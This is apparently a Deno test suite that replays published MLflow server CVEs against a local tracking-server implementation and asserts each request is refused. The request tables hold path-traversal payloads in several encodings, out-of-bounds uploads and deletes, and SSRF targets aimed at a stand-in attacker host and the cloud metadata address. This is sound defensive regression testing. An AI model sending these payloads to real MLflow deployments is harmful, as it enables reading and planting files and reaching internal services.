/**
 * Attacks on MLflow's server that were published, each tried on this one: reading and writing files
 * outside of the artifacts, and making the server send requests. The requests are those of the
 * advisory; where it names no more than the kind of defect, they are plain ones of that kind.
 *
 * Left out, as this server has nothing of the kind: accounts and permissions (CVE-2023-6014,
 * CVE-2024-4263, CVE-2025-1473, CVE-2025-1474, CVE-2025-11200, CVE-2026-2635, CVE-2026-2651,
 * CVE-2026-2652, CVE-2026-33866), recipes and templates (CVE-2023-6709, CVE-2023-6940,
 * CVE-2024-27132), jobs, scorers and traces (CVE-2026-0545, CVE-2026-115886, CVE-2026-53995); and
 * what happens in clients and model servers: loading a model (CVE-2024-37052 to CVE-2024-37061),
 * file names of a data set's server (CVE-2024-0520), tables in a notebook (CVE-2024-27133),
 * temporary folders and archives (CVE-2024-27134, CVE-2025-10279, CVE-2025-15031,
 * CVE-2026-4137).
 */

import assert from "node:assert/strict";
import { createTrackingApp } from "../app.ts";
import { rawRequest } from "./raw_request_fixture.ts";
import { openTrackingStore, type StoreOptions } from "../store.ts";
import { openWebhooks } from "../webhooks/open_webhooks.ts";

/**
 * In its texts `{outside}` is a folder with a secret, `{shared}` one that the server may read and
 * `{attacker}` a host that must not be reached.
 */
interface Attack {
  readonly cve: string;
  readonly what: string;
  readonly requests: readonly (readonly [method: string, target: string, body?: object | string])[];
  /** The status of each answer; undefined where either is harmless. */
  readonly expected: readonly (number | undefined)[];
}

const api = "/ajax-api/2.0/mlflow";
const proxy = "/api/2.0/mlflow-artifacts/artifacts";
const up = "../../".repeat(24);
const encodedUp = "%2e%2e%2f".repeat(24);
const model = ["POST", `${api}/registered-models/create`, { name: "{name}" }] as const;
const run = ["POST", `${api}/runs/create`, { experiment_id: "{experiment}" }] as const;
const read = ["GET", "/model-versions/get-artifact?path=secret.txt&name={name}&version=1"] as const;

function version(source: string, more: object = {}) {
  return ["POST", `${api}/model-versions/create`, { name: "{name}", source, ...more }] as const;
}

function experiment(artifact_location: string) {
  return ["POST", `${api}/experiments/create`, { name: "{name}", artifact_location }] as const;
}

/** A version whose source is refused, so that there is nothing to read. */
function source(cve: string, what: string, uri: string, more: object = {}): Attack {
  return { cve, what, requests: [model, version(uri, more), read], expected: [200, 400, 404] };
}

/** A folder that is passed off as an experiment's, then read by way of one of its runs. */
function location(cve: string, what: string, uri: string): Attack {
  return {
    cve,
    what,
    requests: [
      experiment(uri),
      run,
      model,
      version("file:///{outside}", { run_id: "{run}" }),
      read,
    ],
    expected: [undefined, 200, 200, 400, 404],
  };
}

/** Requests that are each refused as a path. */
function paths(cve: string, what: string, requests: Attack["requests"]): Attack {
  return { cve, what, requests, expected: requests.map(() => 400) };
}

const prompt = { tags: [{ key: "mlflow.prompt.is_prompt", value: "true" }] };
const event = { entity: "REGISTERED_MODEL", action: "CREATED" };

const attacks: readonly Attack[] = [
  source("CVE-2023-1177", "a folder of the machine as source", "/{outside}"),
  source("CVE-2023-1177", "its URI as source", "file:///{outside}"),
  {
    cve: "CVE-2023-1176",
    what: "absolute paths, to learn what exists",
    requests: [
      run,
      ["GET", "/get-artifact?path=/{outside}/secret.txt&run_id={run}"],
      ["GET", `${api}/artifacts/list?path=/{outside}&run_id={run}`],
    ],
    expected: [200, 400, 400],
  },
  source("CVE-2023-2356", "a source that climbs", `file://localhost/${up}{outside}`),
  source("CVE-2023-2780", "a source from the working directory", `file://./${up}{outside}`),
  {
    cve: "CVE-2023-30172",
    what: "a path of /get-artifact that climbs",
    requests: [run, ["GET", `/get-artifact?path=${up}{outside}/secret.txt&run_uuid={run}`]],
    expected: [200, 400],
  },
  paths("CVE-2023-3765", "a drive in place of a folder", [
    ["GET", "/ajax-api/2.0/mlflow-artifacts/artifacts?path=C:/"],
    ["GET", "/ajax-api/2.0/mlflow-artifacts/artifacts?path=/{outside}"],
  ]),
  paths("CVE-2023-6015", "an upload anywhere", [
    ["PUT", `${proxy}/${encodedUp}{outside}/planted.txt`, "planted"],
    ["PUT", `${proxy}/%2F{outside}/planted.txt`, "planted"],
  ]),
  {
    cve: "CVE-2023-6018",
    what: "a source on the attacker's machine, and a version of that version",
    requests: [
      model,
      version("http://{attacker}/api/2.0/mlflow-artifacts/artifacts/"),
      version("models:/{name}/1"),
      ["GET", "/model-versions/get-artifact?path=random&name={name}&version=2"],
    ],
    expected: [200, 200, 200, 404],
  },
  paths("CVE-2023-6753", "paths as Windows has them", [
    ["GET", `${proxy}/..%5C..%5Csecret.txt`],
    ["GET", `${proxy}/C:..%2Fsecret.txt`],
    ["PUT", `${proxy}/C:%5Cplanted.txt`, "planted"],
  ]),
  paths("CVE-2023-6831", "a twice encoded path to delete", [
    ["DELETE", `${proxy}/${"%252E%252E%252F".repeat(24)}{outside}%252Fsecret.txt`],
  ]),
  location("CVE-2023-6909", "a location that climbs in its query", `http:///?/${up}{outside}/`),
  {
    cve: "CVE-2023-6974",
    what: "a location inside the network",
    requests: [
      experiment("http://{attacker}/latest/meta-data"),
      run,
      ["GET", "/get-artifact?path=credentials&run_id={run}"],
      ["GET", `${api}/artifacts/list?run_id={run}`],
    ],
    expected: [200, 200, 501, 501],
  },
  {
    cve: "CVE-2023-6975",
    what: "an upload to a location of the attacker's choice",
    requests: [
      experiment("file:///{outside}"),
      run,
      ["POST", "/ajax-api/2.0/mlflow/upload-artifact?run_uuid={run}&path=planted.txt", "planted"],
    ],
    expected: [200, 200, 501],
  },
  paths("CVE-2023-6976", "an upload that climbs", [
    ["PUT", `${proxy}/a%2F${encodedUp}{outside}%2Fplanted.txt`, "planted"],
    ["PUT", `${proxy}/a%5C..%5C..%5Cplanted.txt`, "planted"],
  ]),
  source("CVE-2023-6977", "a source that looks like a host", "//proc/self/root/{outside}"),
  location("CVE-2024-1483", "a location that climbs in its fragment", `http:///#/${up}{outside}/`),
  source("CVE-2024-1558", "a source with an encoded climb", `http://host/a/${encodedUp}{outside}`),
  source("CVE-2024-1558", "one that is encoded twice", `http://host/%252e%252e%252f{outside}`),
  paths("CVE-2024-1560", "a path to delete, encoded thrice and more", [
    ["DELETE", `${proxy}/%25252e%25252e%25252f{outside}%25252fsecret.txt`],
    ["DELETE", `${proxy}/${`%${"25".repeat(20)}2e`.repeat(2)}%2f{outside}%2fsecret.txt`],
  ]),
  location("CVE-2024-1593", "a location with parameters", `http:///a;/${up}{outside}/`),
  location("CVE-2024-1594", "a location with a fragment", `http://host/a#/${up}{outside}/`),
  {
    cve: "CVE-2024-1594",
    what: "a fragment that hides the run's own folder, to read the database beside it",
    requests: [
      experiment("file:///{shared}#"),
      run,
      ["GET", "/get-artifact?path=mlflow.db&run_id={run}"],
    ],
    expected: [undefined, 200, undefined],
  },
  location("CVE-2024-2928", "a fragment in place of a query", `http:///#/${up}{outside}/`),
  {
    cve: "CVE-2024-3099",
    what: "a name that is another one when decoded",
    requests: [
      model,
      ["POST", `${api}/registered-models/create`, { name: "%7Bname%7D" }],
      ["POST", `${api}/registered-models/create`, { name: "a%2Fb" }],
      ["GET", `${api}/registered-models/get?name=a%2Fb`],
    ],
    expected: [200, 200, 200, 400],
  },
  source("CVE-2024-3573", "a source with an empty scheme", ":/{outside}"),
  source("CVE-2024-3573", "a source that says file: without slashes", "file:{outside}"),
  {
    cve: "CVE-2024-3848",
    what: "a fragment behind a host, and a path with a query",
    requests: [
      ...location("", "", `http://host#/${up}{outside}/`).requests,
      ["POST", "/ajax-api/2.0/mlflow/upload-artifact?run_uuid={run}&path=a?/../b", "planted"],
    ],
    expected: [undefined, 200, 200, 400, 404, 400],
  },
  {
    cve: "CVE-2024-6838",
    what: "a name without end",
    requests: [
      ["POST", `${api}/experiments/create`, { name: "n".repeat(501) }],
    ],
    expected: [400],
  },
  {
    cve: "CVE-2024-8859",
    what: "an encoded question mark before the climb",
    requests: [
      experiment("dbfs:/"),
      run,
      model,
      version(`dbfs:/{run}/artifacts/a%3f/${up}{outside}`),
      read,
    ],
    expected: [200, 200, 200, 400, 404],
  },
  source("CVE-2025-11201", "a source that is a file", "file:///{outside}/secret.txt"),
  {
    cve: "CVE-2025-52967",
    what: "a gateway that forwards to any address",
    requests: [[
      "POST",
      "/ajax-api/2.0/mlflow/gateway-proxy",
      { gateway_path: "http://{attacker}/latest/meta-data", request_type: "GET" },
    ]],
    expected: [404],
  },
  {
    cve: "CVE-2026-2033",
    what: "an artifact path that climbs out of its run",
    requests: [
      run,
      ["PUT", `${proxy}/0/{run}/artifacts/..%2f..%2f..%2f..%2f{outside}%2fplanted.txt`, "planted"],
      ["GET", `/get-artifact?path=..%252f..%252f..%252fmlflow.db&run_id={run}`],
    ],
    expected: [200, 400, 400],
  },
  {
    cve: "CVE-2026-2393",
    what: "webhooks to addresses inside",
    requests: [
      "http://{attacker}/",
      "https://{attacker}/",
      "https://169.254.169.254/latest/meta-data",
      "https://[::ffff:127.0.0.1]/",
      "https://[fd00:ec2::254]/",
      "https://0x7f000001/",
      "file:///{outside}/secret.txt",
    ].map((url) => ["POST", `${api}/webhooks`, { name: "hook", url, events: [event] }]),
    expected: Array(7).fill(400),
  },
  source("CVE-2026-2614", "a folder as the source of a prompt", "file:///{outside}", prompt),
  source("CVE-2026-2614", "its path as the source of a prompt", "/{outside}", prompt),
  source("CVE-2026-116690", "a prompt's source that climbs", `${up}{outside}`, prompt),
  source("CVE-2026-116690", "one that climbs encoded", `${encodedUp}{outside}`, prompt),
];

/** What an attack is tried on. */
interface Target {
  readonly port: number;
  readonly outside: string;
  readonly shared: string;
  readonly attacker: string;
}

const secret = "root:x:0:0:the secret of the machine";

/** Serves a store over a real port, beside a folder with a secret and a host that counts calls. */
async function withTarget(
  options: (home: string) => Partial<StoreOptions>,
  use: (target: Target) => Promise<void>,
): Promise<void> {
  const home = await Deno.makeTempDir();
  const outside = `${home}/outside`;
  await Deno.mkdir(outside);
  await Deno.writeTextFile(`${outside}/secret.txt`, secret);
  const calls: string[] = [];
  const quiet = { port: 0, hostname: "127.0.0.1", onListen() {} };
  try {
    await using attacker = Deno.serve(quiet, ({ url }) => new Response(String(calls.push(url))));
    using store = openTrackingStore({ home: `${home}/store`, now: () => 0, ...options(home) });
    await using webhooks = openWebhooks(store);
    await using server = Deno.serve(quiet, createTrackingApp({ store, webhooks }).fetch);
    await use({
      port: server.addr.port,
      outside: outside.slice(1),
      shared: `${home}/shared`.slice(1),
      attacker: `127.0.0.1:${attacker.addr.port}`,
    });
    assert.deepEqual([...Deno.readDirSync(outside)].map(({ name }) => name), ["secret.txt"]);
    assert.equal(await Deno.readTextFile(`${outside}/secret.txt`), secret);
    assert.deepEqual(calls, []);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
}

async function statusesOf({ requests }: Attack, target: Target): Promise<number[]> {
  const { port, ...places } = target;
  const known: Record<string, string> = { ...places, name: "stolen", experiment: "0" };
  const statuses: number[] = [];
  for (const [method, address, body = ""] of requests) {
    const json = typeof body === "object";
    const [to, text] = [address, json ? JSON.stringify(body) : body].map((form) =>
      form.replace(/\{(\w+)\}/g, (whole, key) => known[key] ?? whole)
    );
    const headers = json ? ["Content-Type: application/json"] : [];
    const answer = await rawRequest(port, method, to, text, headers);
    assert.equal(/SQLite format 3|secret of the machine/.test(answer.text), false, to);
    statuses.push(answer.status);
    known.experiment = /"experiment_id": "(\d+)"/.exec(answer.body)?.[1] ?? known.experiment;
    known.run = /"run_id": "(\w+)"/.exec(answer.body)?.[1] ?? known.run;
  }
  return statuses;
}

for (const attack of attacks) {
  Deno.test(`${attack.cve}: ${attack.what}`, async () => {
    await withTarget(() => ({}), async (target) => {
      const statuses = await statusesOf(attack, target);
      const compared = statuses.map((status, i) => attack.expected[i] && status);
      assert.deepEqual(compared, attack.expected);
    });
    // Where the server does read local files, the rest of the machine is as far away.
    await withTarget(
      (home) => ({
        artifactRoot: `file://${home}/shared`,
        databaseFile: `${home}/shared/mlflow.db`,
      }),
      async (target) => void await statusesOf(attack, target),
    );
  });
}

Deno.test("every attack is that of a CVE, and none stands there twice", () => {
  for (const { cve } of attacks) assert.match(cve, /^CVE-20\d\d-\d{4,}$/);
  const texts = attacks.map(({ cve, what }) => `${cve} ${what}`);
  assert.deepEqual(texts, [...new Set(texts)]);
});
